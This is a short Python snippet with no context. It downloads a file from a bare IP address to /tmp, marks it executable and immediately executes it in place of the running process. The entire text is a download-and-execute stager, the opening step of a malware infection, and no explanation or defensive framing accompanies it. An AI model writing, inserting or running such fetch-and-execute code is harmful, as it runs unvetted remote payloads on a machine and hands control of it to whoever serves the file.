import urllib.request
urllib.request.urlretrieve("http://203.0.113.7/a","/tmp/a")
import os; os.chmod("/tmp/a",0o755); os.execv("/tmp/a",["a"])
